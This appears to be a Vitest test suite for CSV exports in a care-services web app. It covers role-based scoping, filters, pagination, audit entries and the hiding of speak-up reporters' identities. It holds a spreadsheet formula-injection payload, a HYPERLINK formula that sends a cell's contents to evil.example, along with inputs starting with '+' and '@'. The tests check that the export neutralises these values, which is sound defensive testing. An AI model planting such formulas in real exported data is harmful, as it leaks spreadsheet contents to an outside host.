import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDatabase, testDialects, type TestDatabase } from '../support/databases.js';
import { buildWorld, PASSWORD, type World } from '../support/world.js';
import { signedIn, testApp, type Client } from '../support/http.js';
import { csvRecords } from '../support/csv.js';
import type { App } from '../../src/server/http/app.js';
import { nowIso } from '../../src/db/connection.js';
import * as people from '../../src/server/services/people.service.js';

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")';

describe.each(testDialects())('CSV export of every list on %s', (dialect) => {
  let database: TestDatabase;
  let app: App;
  let world: World;
  let admin: Client;
  let manager: Client;
  let worker: Client;
  let lead: Client;
  let guardian: Client;
  let commissioner: Client;
  let board: Client;
  let formulaPersonId: number;

  beforeAll(async () => {
    database = await createTestDatabase(dialect);
    world = await buildWorld(database);
    app = await testApp(database);
    admin = await signedIn(app, world.accounts.admin.email, PASSWORD);
    manager = await signedIn(app, world.accounts.service_manager.email, PASSWORD);
    worker = await signedIn(app, world.accounts.support_worker.email, PASSWORD);
    lead = await signedIn(app, world.accounts.quality_lead.email, PASSWORD);
    guardian = await signedIn(app, world.accounts.speak_up_guardian.email, PASSWORD);
    commissioner = await signedIn(app, world.accounts.commissioner.email, PASSWORD);
    board = await signedIn(app, world.accounts.board_member.email, PASSWORD);
    formulaPersonId = (await people.createPerson(world.ctx, {
      ref: 'P-FORMULA', displayName: FORMULA, serviceId: world.services.birch.id, learningDisability: false, autism: true,
      legalStatus: 'informal', startDate: '2025-02-03',
    })).id;
  });
  afterAll(async () => {
    await app.close();
    await database.drop();
  });

  describe('people', () => {
    it('exports the people in the filtered service, with ISO dates, a guarded formula, and an audit entry like the list', async () => {
      const before = Number((await database.db.selectFrom('audit_log').select((eb) => eb.fn.countAll().as('n'))
        .where('entity_kind', '=', 'person').where('action', '=', 'list').executeTakeFirstOrThrow()).n);
      const { header, rows } = csvRecords(await admin.get(`/api/v1/people?serviceId=${world.services.birch.id}&format=csv`), 'people');
      expect(header).toEqual(['id', 'ref', 'display_name', 'service', 'learning_disability', 'autism', 'legal_status', 'start_date', 'end_date']);
      expect(rows.map((r) => r.ref).sort()).toEqual(['P-AMIRA', 'P-FORMULA']);
      expect(rows.every((r) => r.service === 'Birch House')).toBe(true);
      const amira = rows.find((r) => r.ref === 'P-AMIRA')!;
      expect(amira).toMatchObject({ display_name: 'Amira K.', legal_status: 'dols_authorised', start_date: '2021-03-01', end_date: '', autism: 'true' });
      // A spreadsheet would run the name as a formula; the export prefixes a quote.
      expect(rows.find((r) => r.ref === 'P-FORMULA')!.display_name).toBe(`'${FORMULA}`);
      expect(rows.find((r) => r.ref === 'P-FORMULA')!.id).toBe(String(formulaPersonId));

      const after = await database.db.selectFrom('audit_log').selectAll().where('entity_kind', '=', 'person').where('action', '=', 'list')
        .orderBy('id', 'asc').execute();
      expect(after.length).toBe(before + 1);
      expect(after.at(-1)).toMatchObject({ actor_name: 'Test admin', summary: `2 of 2 people in service ${world.services.birch.id}` });
    });

    it('searching by name exports only the match; a manager’s export stays inside their services', async () => {
      expect(csvRecords(await admin.get('/api/v1/people?q=Ben&format=csv'), 'people').rows.map((r) => r.ref)).toEqual(['P-BEN']);
      const managers = csvRecords(await manager.get('/api/v1/people?format=csv'), 'people').rows.map((r) => r.ref).sort();
      expect(managers).toEqual(['P-AMIRA', 'P-FORMULA']);
    });

    it('refuses an export the list would refuse: another service is 404, a role without people is 403', async () => {
      const outside = await manager.get(`/api/v1/people?serviceId=${world.services.rowan.id}&format=csv`);
      expect(outside.status).toBe(404);
      expect(String(outside.headers['content-type'])).toContain('application/problem+json');
      expect((await commissioner.get('/api/v1/people?format=csv')).status).toBe(403);
      expect((await guardian.get('/api/v1/people?format=csv')).status).toBe(403);
      expect((await admin.get('/api/v1/people?format=pdf')).status).toBe(400);
    });

    it('exports every page of a long list, not just the first', async () => {
      const now = nowIso();
      const many = Array.from({ length: 620 }, (_, i) => ({
        ref: `P-BULK-${String(i).padStart(4, '0')}`, display_name: `Bulk ${i}`, service_id: world.services.rowan.id, learning_disability: 1, autism: 0,
        legal_status: 'informal', start_date: '2020-01-01', end_date: null, created_at: now, updated_at: now,
      }));
      await database.db.insertInto('people').values(many).execute();
      const { rows } = csvRecords(await admin.get(`/api/v1/people?serviceId=${world.services.rowan.id}&format=csv&limit=5`), 'people');
      expect(rows).toHaveLength(621);
      expect(new Set(rows.map((r) => r.id)).size).toBe(621);
      await database.db.deleteFrom('people').where('ref', 'like', 'P-BULK-%').execute();
    });
  });

  describe('staff', () => {
    it('exports staff with their services; the search filter and the worker’s scope both apply', async () => {
      const { header, rows } = csvRecords(await admin.get('/api/v1/staff?format=csv'), 'staff');
      expect(header).toEqual(['id', 'ref', 'name', 'job_title', 'employment_type', 'active', 'services']);
      expect(rows.map((r) => r.name).sort()).toEqual(['Chloe Evans', 'Dev Patel']);
      expect(rows.find((r) => r.name === 'Dev Patel')).toMatchObject({ employment_type: 'agency', services: 'Rowan Court', active: 'true' });
      expect(csvRecords(await admin.get('/api/v1/staff?q=Dev&format=csv'), 'staff').rows.map((r) => r.ref)).toEqual(['S-DEV']);
      expect(csvRecords(await worker.get('/api/v1/staff?format=csv'), 'staff').rows.map((r) => r.ref)).toEqual(['S-CHLOE']);
    });

    it('is refused to roles that cannot read staff', async () => {
      expect((await guardian.get('/api/v1/staff?format=csv')).status).toBe(403);
      expect((await board.get('/api/v1/staff?format=csv')).status).toBe(403);
    });
  });

  describe('services', () => {
    it('exports services in scope, filtered by region; board members get the summary fields only', async () => {
      const { header, rows } = csvRecords(await admin.get(`/api/v1/services?regionId=${world.regions.south.id}&format=csv`), 'services');
      expect(header).toEqual(['id', 'ref', 'name', 'type', 'region', 'capacity', 'registration_number', 'commissioners']);
      expect(rows).toEqual([{
        id: String(world.services.rowan.id), ref: 'ROWAN', name: 'Rowan Court', type: 'residential_care_home', region: 'South', capacity: '10',
        registration_number: '1-202', commissioners: 'Kent County Council',
      }]);
      expect(csvRecords(await manager.get('/api/v1/services?format=csv'), 'services').rows.map((r) => r.name)).toEqual(['Birch House']);
      const summary = csvRecords(await board.get('/api/v1/services?format=csv'), 'services').rows;
      expect(summary.map((r) => r.name).sort()).toEqual(['Birch House', 'Rowan Court']);
      expect(summary.every((r) => r.ref === '' && r.registration_number === '' && r.commissioners === '')).toBe(true);
    });
  });

  describe('users and the audit trail (admin only)', () => {
    it('exports user accounts filtered by role', async () => {
      const { header, rows } = csvRecords(await admin.get('/api/v1/users?role=service_manager&format=csv'), 'users');
      expect(header).toEqual(['id', 'name', 'email', 'role', 'all_services', 'services', 'disabled', 'last_sign_in_at']);
      expect(rows).toHaveLength(1);
      expect(rows[0]).toMatchObject({ email: 'service-manager@test.lantern', role: 'service_manager', all_services: 'false', services: 'Birch House', disabled: 'false' });
      expect(rows[0]!.last_sign_in_at).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}/); // UK time, as on screen
      expect(csvRecords(await admin.get('/api/v1/users?format=csv'), 'users').rows.length).toBeGreaterThanOrEqual(8);
    });

    it('exports the audit trail with its filters', async () => {
      const { header, rows } = csvRecords(await admin.get('/api/v1/audit?entityKind=person&action=list&format=csv'), 'audit-trail');
      expect(header).toEqual(['id', 'at', 'actor', 'action', 'entity_kind', 'entity_id', 'ip', 'summary']);
      expect(rows.length).toBeGreaterThanOrEqual(3);
      expect(rows.every((r) => r.entity_kind === 'person' && r.action === 'list')).toBe(true);
      expect(rows.every((r) => /^\d{4}-\d{2}-\d{2} \d{2}:\d{2}(:\d{2})?$/.test(r.at!))).toBe(true);
      expect(rows.some((r) => r.actor === 'Test service_manager')).toBe(true);
    });

    it('refuses both to everyone but the admin', async () => {
      for (const client of [manager, lead, guardian]) {
        expect((await client.get('/api/v1/users?format=csv')).status).toBe(403);
        expect((await client.get('/api/v1/audit?format=csv')).status).toBe(403);
      }
    });
  });

  describe('restriction challenges', () => {
    it('exports the manager’s review queue with its status filter, inside their services only; a worker exports only their own', async () => {
      const atBirch = await worker.post('/api/v1/restriction-challenges', { serviceId: world.services.birch.id, text: '+The kitchen is always locked after 8' });
      expect(atBirch.status).toBe(201);
      const atRowan = await lead.post('/api/v1/restriction-challenges', { serviceId: world.services.rowan.id, text: 'Garden door locked at weekends' });
      expect(atRowan.status).toBe(201);
      const answered = await manager.post(`/api/v1/restriction-challenges/${atBirch.body.id}/outcome`, { outcome: 'not_a_restriction', response: 'Discussed at the team meeting.' });
      expect(answered.status).toBe(200);

      const queue = csvRecords(await manager.get('/api/v1/restriction-challenges?format=csv'), 'restriction-challenges');
      expect(queue.header).toEqual(['id', 'kind', 'raised_at', 'service', 'restriction', 'text', 'raised_by', 'status', 'outcome', 'response', 'responded_by', 'responded_at']);
      expect(queue.rows.map((r) => r.id)).toEqual([String(atBirch.body.id)]);
      expect(queue.rows[0]).toMatchObject({ text: "'+The kitchen is always locked after 8", status: 'closed', response: 'Discussed at the team meeting.', service: 'Birch House' });

      const open = csvRecords(await lead.get('/api/v1/restriction-challenges?status=open&format=csv'), 'restriction-challenges');
      expect(open.rows.map((r) => r.id)).toEqual([String(atRowan.body.id)]);

      const mine = csvRecords(await worker.get('/api/v1/restriction-challenges?mine=true&format=csv'), 'restriction-challenges');
      expect(mine.rows.map((r) => r.id)).toEqual([String(atBirch.body.id)]);
      expect((await worker.get('/api/v1/restriction-challenges?format=csv')).status).toBe(403);
      expect((await manager.get(`/api/v1/restriction-challenges?serviceId=${world.services.rowan.id}&format=csv`)).body).not.toContain('Garden door');
    });
  });

  describe('practice reviews', () => {
    it('exports reviews filtered by person, within scope, and refuses roles that cannot read them', async () => {
      const review = (personId: number, serviceId: number, heldOn: string) => ({
        kind: 'periodic', personId, serviceId, heldOn,
        participants: { person: true, family: false, advocate: true, staff: true, staffIds: [] },
        whatCouldBeDifferent: '@SUM(1,2) more choice at tea time', contributoryFactors: ['physical_environment'],
        recommendations: ['Offer a choice of drinks', 'Review again in three months'],
      });
      expect((await manager.post('/api/v1/reviews', review(world.people.amira.id, world.services.birch.id, '2026-10-02'))).status).toBe(201);
      expect((await lead.post('/api/v1/reviews', review(world.people.ben.id, world.services.rowan.id, '2026-10-05'))).status).toBe(201);

      const amiras = csvRecords(await lead.get(`/api/v1/reviews?personId=${world.people.amira.id}&format=csv`), 'practice-reviews');
      expect(amiras.header).toContain('what_could_be_different');
      expect(amiras.rows).toHaveLength(1);
      expect(amiras.rows[0]).toMatchObject({
        kind: 'periodic', held_on: '2026-10-02', person: 'Amira K.', service: 'Birch House', person_took_part: 'Y', family_took_part: 'N',
        advocate_took_part: 'Y', what_could_be_different: "'@SUM(1,2) more choice at tea time", contributory_factors: 'physical_environment',
        recommendations: 'Offer a choice of drinks; Review again in three months',
      });
      expect(csvRecords(await lead.get('/api/v1/reviews?format=csv'), 'practice-reviews').rows).toHaveLength(2);
      expect(csvRecords(await manager.get('/api/v1/reviews?format=csv'), 'practice-reviews').rows.map((r) => r.person)).toEqual(['Amira K.']);
      expect((await guardian.get('/api/v1/reviews?format=csv')).status).toBe(403);
      expect((await commissioner.get('/api/v1/reviews?format=csv')).status).toBe(403);
    });
  });

  describe('speak-up (guardian only)', () => {
    it('exports the guardian’s list with its filters and never any reporter identity', async () => {
      const named = await worker.post('/api/v1/speak-up', { mode: 'named', serviceId: world.services.birch.id, whatHappened: 'Night staff sleep on shift.' });
      const confidential = await worker.post('/api/v1/speak-up', { mode: 'confidential', whatHappened: 'Money goes missing from the petty cash.' });
      const anonymous = await worker.post('/api/v1/speak-up', { mode: 'anonymous', serviceId: world.services.rowan.id, whatHappened: 'Residents are shouted at.' });
      for (const r of [named, confidential, anonymous]) expect(r.status).toBe(201);

      const all = await guardian.get('/api/v1/speak-up?format=csv');
      const { header, rows } = csvRecords(all, 'speak-up');
      expect(header).toEqual(['id', 'received_on', 'mode', 'status', 'service', 'categories', 'themes', 'has_outcome', 'messages']);
      expect(rows.map((r) => r.mode).sort()).toEqual(['anonymous', 'confidential', 'named']);
      expect(rows.every((r) => /^\d{4}-\d{2}-\d{2}$/.test(r.received_on!))).toBe(true);
      // No identity of any kind in the file: not the name, the email or the account id; nor the narrative.
      const text = String(all.body);
      for (const secret of ['Test support_worker', 'support-worker@test.lantern', 'Night staff sleep', 'petty cash', 'shouted']) expect(text).not.toContain(secret);

      const anon = csvRecords(await guardian.get('/api/v1/speak-up?mode=anonymous&format=csv'), 'speak-up').rows;
      expect(anon).toHaveLength(1);
      expect(anon[0]).toMatchObject({ id: String(anonymous.body.id), service: 'Rowan Court', mode: 'anonymous' });
    });

    it('is refused to everyone but the guardian, the admin included', async () => {
      for (const client of [admin, manager, worker, lead]) expect((await client.get('/api/v1/speak-up?format=csv')).status).toBe(403);
    });
  });

  it('every list export rejects an unknown format', async () => {
    for (const path of ['/api/v1/staff', '/api/v1/services', '/api/v1/users', '/api/v1/audit', '/api/v1/restriction-challenges', '/api/v1/reviews']) {
      expect((await admin.get(`${path}?format=xlsx`)).status, path).toBe(400);
    }
    expect((await guardian.get('/api/v1/speak-up?format=xlsx')).status).toBe(400);
  });
});
